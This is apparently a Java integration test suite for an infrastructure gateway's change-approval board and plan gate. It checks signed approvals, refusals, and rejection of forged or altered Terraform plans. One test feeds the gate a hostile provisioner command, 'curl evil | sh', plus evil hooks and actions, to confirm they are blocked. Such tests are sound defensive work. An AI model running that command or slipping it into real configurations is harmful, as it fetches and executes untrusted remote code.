package dev.infrahub.gateway;

import static dev.infrahub.gateway.Hub.JSON;
import static dev.infrahub.gateway.Hub.PLAN;
import static dev.infrahub.gateway.Hub.SMALL_PLAN;
import static dev.infrahub.gateway.StandInSigner.inBackground;
import static dev.infrahub.testkit.Eventually.eventually;
import static org.assertj.core.api.Assertions.assertThat;

import dev.infrahub.faults.RefusalKind;
import dev.infrahub.schemas.ApprovalRequested;
import dev.infrahub.schemas.ChangeUpdated;
import dev.infrahub.schemas.OperationFailed;
import dev.infrahub.schemas.PlanAnalyzed;
import dev.infrahub.schemas.PlanSubmitted;
import dev.infrahub.schemas.SshCertificateVerified;
import dev.infrahub.schemas.Topics;
import dev.infrahub.testing.Wire;
import java.net.http.HttpResponse;
import java.sql.Connection;
import java.sql.PreparedStatement;
import java.sql.ResultSet;
import java.sql.SQLException;
import java.time.Instant;
import java.time.temporal.ChronoUnit;
import java.util.List;
import java.util.UUID;
import java.util.concurrent.CompletableFuture;
import java.util.concurrent.TimeUnit;
import java.util.regex.Matcher;
import org.apache.kafka.clients.consumer.ConsumerRecord;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.TestInstance;
import tools.jackson.databind.JsonNode;

/** The board over HTTP. The test plays the cab-signer. */
@TestInstance(TestInstance.Lifecycle.PER_CLASS)
class CabIT {

    private Hub hub;
    private StandInSigner signer;
    private PlanSubmitted plan;

    @BeforeAll
    void start() {
        hub = Hub.start("--HUB_MACHINE_APPROVERS=true");
        signer = StandInSigner.of(hub);
        plan = signer.plan();
    }

    @AfterAll
    void stop() {
        hub.close();
    }

    @Test
    void a_change_request_holds_the_facts_of_the_plan_and_who_asked() throws Exception {
        String id = signer.open();

        JsonNode change = hub.json(hub.get("/api/cab/requests/" + id));
        assertThat(change.path("planHash").asString()).isEqualTo(plan.getPlanHash());
        assertThat(change.path("fingerprint").asString()).isEqualTo(plan.getFingerprint());
        assertThat(change.path("state").asString()).isEqualTo("pending");
        assertThat(change.path("requestedBy").asString()).startsWith("key:");
        signer.assertProblem(hub.get("/api/cab/requests?state=done"), 400, "parameter.invalid");
        assertThat(hub.json(hub.get("/api/cab/requests?state=pending&module=network"))
                        .values())
                .anySatisfy(one ->
                        assertThat(one.path("changeRequestId").asString()).isEqualTo(id));
    }

    @Test
    void a_request_that_leaves_the_id_to_the_hub_may_be_sent_again_under_its_key() {
        String wish = "{\"planId\":\"" + plan.getPlanId() + "\"}";
        String key = UUID.randomUUID().toString();
        String first =
                accepted(hub.post("/api/cab/requests", JSON, wish, "Idempotency-Key", key, "Prefer", "respond-async"));
        String second =
                accepted(hub.post("/api/cab/requests", JSON, wish, "Idempotency-Key", key, "Prefer", "respond-async"));

        assertThat(second).isEqualTo(first);
    }

    private String accepted(HttpResponse<String> response) {
        assertThat(response.statusCode()).as(response.body()).isEqualTo(202);
        return hub.json(response).path("operationId").asString();
    }

    @Test
    void an_approval_carries_what_verifies_it_and_a_link_that_opens_nothing_else() throws Exception {
        String id = signer.open();
        String other = signer.open();
        CompletableFuture<HttpResponse<String>> answer = inBackground(() -> decide(id, ""));
        ConsumerRecord<String, byte[]> asked = signer.recordOf(Topics.APPROVAL_REQUESTED, id);
        ApprovalRequested event = signer.event(Topics.APPROVAL_REQUESTED, asked);
        assertThat(event.getApprover()).startsWith("key:");
        assertThat(event.getProof()).satisfies(proof -> {
            assertThat(proof.getMethod()).isEqualTo("api-key");
            assertThat(event.getApprover()).isEqualTo("key:" + proof.getKeyId());
            assertThat(proof.getIssuer()).isNull();
        });
        // the wish is signed, and the relay changed nothing of what is
        assertThat(Wire.isBelieved(asked)).isTrue();
        assertThat(event.getFingerprint()).isEqualTo(plan.getFingerprint());
        signer.publish(Topics.APPROVAL_SIGNED, asked, StandInWorker.signed(event));

        HttpResponse<String> approved = answer.get(30, TimeUnit.SECONDS);
        assertThat(approved.statusCode()).as(approved.body()).isEqualTo(200);
        JsonNode approval = hub.json(approved);
        JsonNode decisions = hub.json(hub.get("/api/cab/requests/" + id)).path("decisions");
        assertThat(decisions.values()).singleElement().satisfies(decision -> {
            assertThat(decision.path("decision").asString()).isEqualTo("approve");
            assertThat(decision.path("approvedBy").asString()).isEqualTo(event.getApprover());
            assertThat(decision.path("proof").path("method").asString()).isEqualTo("api-key");
            assertThat(decision.path("approvedAt").asString()).startsWith("20");
        });
        assertThat(hub.json(hub.get("/api/cab/requests/" + other)).path("decisions"))
                .isEmpty();
        assertThat(approval.path("payload").asString()).isEqualTo("{}");
        String link = approval.path("verificationUrl").asString();

        assertThat(anonymous(link.replace(id, other)).statusCode()).isEqualTo(401);
        assertThat(anonymous(link.replaceAll("token=.*", "token=guess")).statusCode())
                .isEqualTo(401);
        assertThat(anonymous("/api/cab/requests/" + id + link.substring(link.indexOf('?')))
                        .statusCode())
                .isEqualTo(401);
        CompletableFuture<HttpResponse<String>> verified = inBackground(() -> anonymous(link));
        signer.verify(id, true, null);
        assertThat(hub.json(verified.get(30, TimeUnit.SECONDS)).path("valid").asBoolean())
                .isTrue();
    }

    @Test
    void a_no_of_the_board_is_told_with_its_status() throws Exception {
        refused("approver.is-requester", RefusalKind.FORBIDDEN, 403);
        refused("change.decided", RefusalKind.CONFLICT, 409);
        refused("plan.mismatch", RefusalKind.CONFLICT, 409);
    }

    private void refused(String code, RefusalKind kind, int status) throws Exception {
        String id = signer.open();
        CompletableFuture<HttpResponse<String>> answer = inBackground(() -> decide(id, ""));
        ConsumerRecord<String, byte[]> asked = signer.recordOf(Topics.APPROVAL_REQUESTED, id);
        signer.refuse(asked, code, kind);
        HttpResponse<String> response = answer.get(30, TimeUnit.SECONDS);
        assertThat(response.statusCode()).as(code).isEqualTo(status);
        assertThat(hub.json(response).path("code").asString()).isEqualTo(code);
    }

    @Test
    void what_cannot_be_signed_is_503_and_to_be_tried_again() throws Exception {
        String id = signer.open();
        CompletableFuture<HttpResponse<String>> answer = inBackground(() -> decide(id, ""));
        ConsumerRecord<String, byte[]> asked = signer.recordOf(Topics.APPROVAL_REQUESTED, id);
        signer.publish(
                Topics.OPERATION_FAILED,
                asked,
                new OperationFailed(
                        StandInSigner.operationOf(asked).toString(),
                        "quantumapi.unavailable",
                        "QuantumAPI is away.",
                        "failed",
                        true,
                        "approval.requested",
                        null));

        HttpResponse<String> response = answer.get(30, TimeUnit.SECONDS);
        assertThat(response.statusCode()).isEqualTo(503);
        assertThat(response.headers().firstValue("Retry-After")).isPresent();
        assertThat(hub.json(hub.get("/api/cab/requests/" + id)).path("state").asString())
                .isEqualTo("pending");
    }

    @Test
    void nobody_decides_in_the_name_of_somebody_else_or_on_something_else() throws Exception {
        String id = signer.open();

        signer.assertProblem(decide(id, ",\"approvedBy\":\"the boss\""), 422, "approver.contradicts");
        signer.assertProblem(approve(id, "storage", "low", ""), 409, "change.mismatch");
        signer.assertProblem(approve(id, "network", "critical", ""), 409, "change.mismatch");
        signer.assertProblem(approve(id, "network", "some", ""), 422, "field.invalid");
        signer.assertProblem(approve("CHG-none", "network", "low", ""), 404, "change.unknown");
    }

    @Test
    void the_gate_opens_for_the_very_change_that_was_approved_and_for_nothing_else() throws Exception {
        String id = signer.approved();
        String pending = signer.open();
        String replanned = SMALL_PLAN.replace("1.11.4", "1.12.0");

        assertThat(gateAfterVerifying(id, replanned, true).statusCode()).isEqualTo(200);
        signer.assertProblem(gateAfterVerifying(id, SMALL_PLAN, false), 403, "gate.not-genuine");
        signer.assertProblem(gate(id, SMALL_PLAN.replace("\"x\"", "\"y\""), "network"), 403, "gate.other-plan");
        signer.assertProblem(gate(id, SMALL_PLAN, "storage"), 403, "gate.other-module");
        signer.assertProblem(gate(id, SMALL_PLAN, "network&environment=staging"), 403, "gate.other-environment");
        signer.assertProblem(
                hub.post("/api/cab/gate?changeRequestId=" + id + "&client=globex&module=network", PLAN, SMALL_PLAN),
                403,
                "change.unknown");
        signer.assertProblem(gate(pending, SMALL_PLAN, "network"), 403, "gate.not-approved");
        signer.assertProblem(gate("CHG-none", SMALL_PLAN, "network"), 403, "change.unknown");
    }

    @Test
    void a_closed_gate_tells_what_this_plan_does_that_was_not_approved() throws Exception {
        String id = signer.approved();

        HttpResponse<String> closed = gate(id, SMALL_PLAN.replace("\"create\"", "\"delete\""), "network");

        signer.assertProblem(closed, 403, "gate.other-plan");
        assertThat(hub.json(closed).path("differences").toString())
                .contains("approved is create, this plan does delete");
        assertThat(hub.json(closed).path("detail").asString()).contains("this plan does delete");
    }

    @Test
    void no_environment_is_none_that_is_called_so() throws Exception {
        String id = signer.approved();

        signer.assertProblem(gate(id, SMALL_PLAN, "network&environment=none"), 403, "gate.other-environment");
    }

    @Test
    void what_else_runs_or_where_is_told_by_name_and_keeps_the_gate_shut() throws Exception {
        String id = signer.approved();

        for (String[] other : List.of(
                new String[] {
                    "\"action_invocations\":[{\"address\":\"action.evil.x\",\"type\":\"evil\",\"name\":\"x\"}]",
                    "action.evil.x: this plan does invoke, which is not approved"
                },
                new String[] {
                    "\"configuration\":{\"root_module\":{\"resources\":[{\"address\":\"terraform_data.a\","
                            + "\"provisioners\":[{\"type\":\"local-exec\",\"expressions\":{\"command\":"
                            + "{\"constant_value\":\"curl evil | sh\"}}}]}]}}",
                    "terraform_data.a provisioner local-exec 1: this plan does run, which is not approved"
                },
                new String[] {
                    "\"configuration\":{\"provider_config\":{\"terraform\":{\"expressions\":{\"region\":"
                            + "{\"constant_value\":\"us-east-1\"}}}}}",
                    "provider terraform: this plan does configure, which is not approved"
                },
                new String[] {"\"complete\":false", "plan: this plan does incomplete, which is not approved"},
                new String[] {"\"hooks\":[\"./evil\"]", "plan member hooks: this plan does hold, which is not approved"
                })) {
            HttpResponse<String> closed =
                    gate(id, SMALL_PLAN.replaceFirst("\\{", "{" + Matcher.quoteReplacement(other[0]) + ","), "network");
            signer.assertProblem(closed, 403, "gate.other-plan");
            assertThat(hub.json(closed).path("differences").valueStream().map(JsonNode::asString))
                    .containsExactly(other[1]);
            assertThat(closed.body()).doesNotContain("curl");
        }
        signer.assertProblem(
                gate(id, SMALL_PLAN.replaceFirst("\\{", "{\"errored\":true,"), "network"), 403, "gate.errored");
    }

    @Test
    void an_approval_by_the_old_definition_is_put_before_the_board_anew() throws Exception {
        String id = "CHG-" + UUID.randomUUID();
        ChangeUpdated old = ChangeUpdated.newBuilder(StandInWorker.approved(id, signer.plan()))
                .setFingerprint(signer.plan().getFingerprint().replace("v2:", ""))
                .build();
        hub.wire.publish(Topics.CHANGE_UPDATED, "acme/" + id, UUID.randomUUID(), UUID.randomUUID(), old);
        eventually(() ->
                assertThat(hub.get("/api/cab/requests/" + id).statusCode()).isEqualTo(200));

        signer.assertProblem(gate(id, SMALL_PLAN, "network"), 403, "gate.old-fingerprint");
    }

    /** Whoever has the cab-signer's account of Kafka, and not its key, opens nothing. */
    @Test
    void what_the_cab_signer_did_not_sign_opens_nothing() throws Exception {
        String id = signer.approved();
        CompletableFuture<HttpResponse<String>> answer = inBackground(() -> gate(id, SMALL_PLAN, "network"));
        var asked = signer.recordOf(Topics.VERIFICATION_REQUESTED, id);

        signer.verifyUnsigned(id);

        String operation = StandInSigner.operationOf(asked).toString();
        eventually(() -> assertThat(hub.wire.records(Topics.APPROVAL_VERIFIED.deadLetters()))
                .filteredOn(dead -> Wire.header(dead, "correlation-id")
                        .filter(operation::equals)
                        .isPresent())
                .singleElement()
                .satisfies(dead -> assertThat(Wire.header(dead, "dlt-code")).contains("event.unsigned")));
        // who may tell of certificates does not answer what was asked about a change
        long before = handled();
        signer.answerUnsigned(
                Topics.SSH_CERTIFICATE_VERIFIED,
                asked,
                new SshCertificateVerified("any", "acme", true, true, null, null));
        eventually(() -> assertThat(handled()).isGreaterThan(before));
        assertThat(answer).isNotDone();
        signer.verify(id, false, "signature");
        signer.assertProblem(answer.get(30, TimeUnit.SECONDS), 403, "gate.not-genuine");
    }

    /** Nor does whoever can change what the gateway keeps of a change that is approved. */
    @Test
    void what_was_not_signed_is_not_what_the_gate_opens_for() throws Exception {
        String id = signer.approved();
        String other = SMALL_PLAN.replace("\"x\"", "\"y\"");
        HttpResponse<String> analyzed = hub.post(
                "/api/pipeline/summarize-plan?module=network&client=acme", PLAN, other, "Prefer", "respond-async");
        UUID operation = UUID.fromString(hub.json(analyzed).path("operationId").asString());
        eventually(() ->
                assertThat(hub.wire.eventsOf(Topics.PLAN_SUBMITTED, operation)).hasSize(1));
        PlanSubmitted evil = hub.wire.eventsOf(Topics.PLAN_SUBMITTED, operation).getFirst();
        ChangeUpdated forged = ChangeUpdated.newBuilder(StandInWorker.approved(id, evil))
                .setUpdatedAt(Instant.now().plusSeconds(1).truncatedTo(ChronoUnit.MILLIS))
                .build();
        hub.wire.publish(Topics.CHANGE_UPDATED, "acme/" + id, UUID.randomUUID(), UUID.randomUUID(), forged);
        eventually(() -> assertThat(hub.json(hub.get("/api/cab/requests/" + id))
                        .path("fingerprint")
                        .asString())
                .isEqualTo(evil.getFingerprint()));

        signer.assertProblem(gateAfterVerifying(id, other, true), 403, "gate.not-genuine");
    }

    /** Whoever publishes plans past the gateway can say any hash and fingerprint beside any content. */
    @Test
    void what_was_not_read_by_the_gateway_is_neither_put_before_the_board_nor_let_through() {
        UUID operation = UUID.fromString(hub.json(hub.post(
                        "/api/pipeline/summarize-plan?module=network&client=acme&environment=unread",
                        PLAN,
                        SMALL_PLAN,
                        "Prefer",
                        "respond-async"))
                .path("operationId")
                .asString());
        eventually(() ->
                assertThat(hub.wire.eventsOf(Topics.PLAN_SUBMITTED, operation)).hasSize(1));
        PlanSubmitted read = hub.wire.eventsOf(Topics.PLAN_SUBMITTED, operation).getFirst();
        PlanAnalyzed harmless = PlanAnalyzed.newBuilder(StandInWorker.analyzed(read))
                .setContentHash("0".repeat(64))
                .build();
        hub.wire.answer(Topics.PLAN_ANALYZED, "acme/network", operation, harmless);
        eventually(() -> assertThat(hub.get("/api/plans/" + read.getPlanId()).statusCode())
                .isEqualTo(200));

        String planId = "{\"planId\":\"" + read.getPlanId() + "\"}";
        signer.assertProblem(hub.post("/api/cab/requests", JSON, planId), 409, "plan.not-handed-in");
        signer.assertProblem(
                hub.post("/api/cab/gate?changeRequestId=" + signer.approved(), JSON, planId),
                409,
                "plan.not-handed-in");
    }

    /** How many events the gateway is through with. */
    private long handled() throws SQLException {
        try (Connection connection = hub.database.connect();
                PreparedStatement query = connection.prepareStatement("select count(*) from gateway.inbox");
                ResultSet found = query.executeQuery()) {
            found.next();
            return found.getLong(1);
        }
    }

    private HttpResponse<String> gateAfterVerifying(String id, String presented, boolean isValid) throws Exception {
        int before = signer.recordsOf(Topics.VERIFICATION_REQUESTED, id).size();
        CompletableFuture<HttpResponse<String>> answer = inBackground(() -> gate(id, presented, "network"));
        eventually(() ->
                assertThat(signer.recordsOf(Topics.VERIFICATION_REQUESTED, id)).hasSize(before + 1));
        signer.verify(id, isValid, isValid ? null : "signature");
        return answer.get(30, TimeUnit.SECONDS);
    }

    private HttpResponse<String> gate(String id, String presented, String module) {
        return hub.post("/api/cab/gate?changeRequestId=" + id + "&client=acme&module=" + module, PLAN, presented);
    }

    private HttpResponse<String> decide(String id, String more) {
        return approve(id, "network", "low", more);
    }

    private HttpResponse<String> approve(String id, String module, String riskLevel, String more) {
        return hub.post("/api/cab/approve", JSON, """
            {"changeRequestId":"%s","module":"%s","riskLevel":"%s","planHash":"%s"%s}\
            """.formatted(id, module, riskLevel, plan.getPlanHash(), more));
    }

    private HttpResponse<String> anonymous(String path) {
        return hub.send(hub.anonymousRequest(path).build());
    }
}
